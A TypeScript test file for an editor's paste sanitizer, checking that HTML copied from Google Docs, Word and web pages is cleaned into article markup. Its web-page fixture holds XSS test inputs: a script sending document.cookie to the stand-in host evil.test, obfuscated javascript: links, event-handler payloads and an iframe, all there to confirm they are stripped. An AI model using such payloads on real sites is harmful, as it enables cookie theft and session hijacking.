import { generateJSON } from "@tiptap/html/server";
import { describe, expect, it } from "vitest";
import { articleExtensions } from "./extensions";
import { sanitizePastedHtml } from "./paste";
import { withServerDom } from "./server-dom";

const sanitize = (html: string, topHeading?: 1 | 2) => withServerDom((parser) => sanitizePastedHtml(html, { parser, topHeading }));

// What Chrome puts on the clipboard when copying from a Google Docs document.
const googleDocs = `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5c1e2f3a-7fff-8a1b-2c3d-4e5f60718293"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;margin-bottom:6pt;"><span style="font-size:16pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">Harbour plans</span></h2><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;font-style:normal;">The council </span><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:700;font-style:normal;">approved</span><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;font-style:normal;"> the </span><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;font-style:italic;">dredging</span><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;"> plan, </span><a href="https://example.com/minutes" style="text-decoration:none;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#1155cc;font-weight:400;text-decoration:underline;">the minutes</span></a><span style="font-size:11pt;"> say.</span></p><br /><ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;font-size:11pt;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-size:11pt;font-weight:400;">Cost: £4m</span></p></li><li dir="ltr" style="list-style-type:disc;font-size:11pt;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-size:11pt;font-weight:400;">Start: spring</span></p></li></ul><p dir="rtl" style="line-height:1.38;text-align:right;"><span style="font-size:11pt;font-weight:400;">قال رئيس البلدية: «هذا يوم عظيم للمدينة»</span></p></b><br class="Apple-interchange-newline">`;

// Word for Windows, trimmed: a styled heading, a bullet list as mso-list paragraphs, <o:p> and conditional comments.
const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><style>
<!-- p.MsoNormal {mso-style-parent:""; margin:0cm; font-family:"Calibri",sans-serif;} -->
</style></head>
<body lang=EN-GB style='tab-interval:36.0pt'>
<!--StartFragment-->
<h1><a name="_Toc1"></a><span lang=EN-GB>Council budget</span><o:p></o:p></h1>
<p class=MsoNormal><span lang=EN-GB>Spending rises by <b>4%</b> and <i>housing</i>
comes first.<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-GB style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-GB>Schools<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;mso-add-space:auto;text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span lang=EN-GB style='font-family:"Courier New"'><span style='mso-list:Ignore'>o<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-GB>Primary<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-GB style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-GB>Roads<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp; </span></span><![endif]>First step<o:p></o:p></p>
<p class=MsoNormal>The mayor said <span lang=AR-SA dir=RTL style='font-family:"Arial",sans-serif;mso-ascii-font-family:Calibri'>شكرا جزيلا</span> to the crowd.<o:p></o:p></p>
<table class=MsoTableGrid border=1><tr><td style='background:#FFFF00'><p class=MsoNormal>Cell one</p></td><td><p class=MsoNormal>Cell two</p></td></tr></table>
<!--EndFragment-->
</body></html>`;

// A web page with things that must never get into an article.
const webPage = `<div class="article-body" style="color:red" onclick="steal()">
<script>document.location='https://evil.test/?c='+document.cookie</script><style>p{display:none}</style>
<p class="lead" onmouseover="alert(1)">Read <a href="javascript:alert(1)" onclick="alert(2)">this</a>, <a href="JAVA&#x09;SCRIPT:alert(3)">that</a>, <a href="mailto:desk@example.com" target="_blank" class="x">the desk</a> and <a href="https://news.example/a?b=1" style="color:blue">the source</a>.</p>
<img src="http://other.host/tracker.gif" onerror="alert(4)"><p><img src="https://other.host/photo.jpg" alt="Photo"><font color="red" face="Comic Sans">Plain</font> <strong style="font-weight:normal">not bold</strong> <span style="font-weight:bold">bold</span></p>
<iframe src="https://evil.test"></iframe><blockquote><p>Quoted <em>words</em></p></blockquote>
<ol start="3"><li>three</li><li>four<ul><li>nested</li></ul></li></ol>
<h4 id="x" class="y">Small heading</h4><p hidden>Hidden</p><span style="display: none">Skip to content</span><form><input value="x"><button>Go</button></form></div>`;

describe("pasting from Google Docs", () => {
  const html = sanitize(googleDocs);

  it("ignores the not-bold <b> wrapper and keeps only real bold, italic and links", () => {
    expect(html).toContain("<h2>Harbour plans</h2>");
    expect(html).toContain(
      '<p>The council <strong>approved</strong> the <em>dredging</em> plan, <a href="https://example.com/minutes">the minutes</a> say.</p>',
    );
    expect(html).not.toMatch(/<b[ >]|style=|docs-internal|color|span>/);
  });

  it("keeps the bullet list and drops ltr dir attributes that the text already implies", () => {
    expect(html).toContain("<ul><li><p>Cost: £4m</p></li><li><p>Start: spring</p></li></ul>");
    expect(html).not.toContain('dir="ltr"');
  });

  it("keeps an Arabic paragraph's text (its direction is detected from it)", () => {
    expect(html).toContain("<p>قال رئيس البلدية: «هذا يوم عظيم للمدينة»</p>");
  });
});

describe("pasting from Word", () => {
  const html = sanitize(word);

  it("turns a Heading 1 into a section heading and drops mso styles, classes and <o:p>", () => {
    expect(html.startsWith("<h2>Council budget</h2>")).toBe(true);
    expect(html).toContain("<p>Spending rises by <strong>4%</strong> and <em>housing</em> comes first.</p>");
    expect(html).not.toMatch(/mso|Mso|class=|o:p|style=|lang="EN-GB"/i);
  });

  it("rebuilds list paragraphs as nested and numbered lists without the bullet glyphs", () => {
    expect(html).toContain("<ul><li><p>Schools</p><ul><li><p>Primary</p></li></ul></li><li><p>Roads</p></li></ul>");
    expect(html).toContain("<ol><li><p>First step</p></li></ol>");
    expect(html).not.toContain("·");
  });

  it("keeps an Arabic run as a language phrase and flattens the table into paragraphs", () => {
    expect(html).toContain('The mayor said <span lang="AR-SA" dir="rtl">شكرا جزيلا</span> to the crowd.');
    expect(html).toContain("<p>Cell one</p><p>Cell two</p>");
    expect(html).not.toMatch(/<t[rd]|table/);
  });
});

describe("pasting from a web page", () => {
  const html = sanitize(webPage);

  it("drops scripts, styles, event handlers, images, frames and forms", () => {
    expect(html).not.toMatch(/script|style|onclick|onmouseover|onerror|<img|iframe|evil|<input|<button|class=/i);
    expect(html).not.toMatch(/other\.host|tracker|Hidden|Skip to content/);
  });

  it("keeps http(s) and mailto links and unlinks every other scheme, keeping the words", () => {
    expect(html).toContain(
      'Read this, that, <a href="mailto:desk@example.com">the desk</a> and <a href="https://news.example/a?b=1">the source</a>.',
    );
  });

  it("keeps quotes, lists with their start and nesting, and maps deep headings to level 3", () => {
    expect(html).toContain("<blockquote><p>Quoted <em>words</em></p></blockquote>");
    expect(html).toContain('<ol start="3"><li><p>three</p></li><li><p>four</p><ul><li><p>nested</p></li></ul></li></ol>');
    expect(html).toContain("<h3>Small heading</h3>");
    expect(html).toContain("<p>Plain not bold <strong>bold</strong></p>");
  });

  it("keeps a language phrase with an explicit dir (as Galley copies it) but not Word's blanket lang", () => {
    expect(sanitize('<p>Il a dit <span lang="fr" dir="ltr">merci</span>.</p><p><span lang="EN-US">Plain</span></p>')).toBe(
      '<p>Il a dit <span lang="fr" dir="ltr">merci</span>.</p><p>Plain</p>',
    );
  });

  it("keeps an h1 only when asked (imports, where it is the headline)", () => {
    expect(sanitize("<h1>Title</h1><p>x</p>", 1)).toBe("<h1>Title</h1><p>x</p>");
    expect(sanitize("<h1>Title</h1><p>x</p>")).toBe("<h2>Title</h2><p>x</p>");
  });
});

describe("what the editor makes of it", () => {
  it("parses the cleaned Google Docs HTML into the article schema with the same structure", () => {
    const json = generateJSON(sanitize(googleDocs), articleExtensions());
    expect(json.content.map((node: { type: string }) => node.type)).toEqual(["heading", "paragraph", "bulletList", "paragraph"]);
    const marks = json.content[1].content.flatMap((node: { marks?: { type: string }[] }) => node.marks?.map((m) => m.type) ?? []);
    expect(marks.sort()).toEqual(["bold", "italic", "link"]);
  });
});
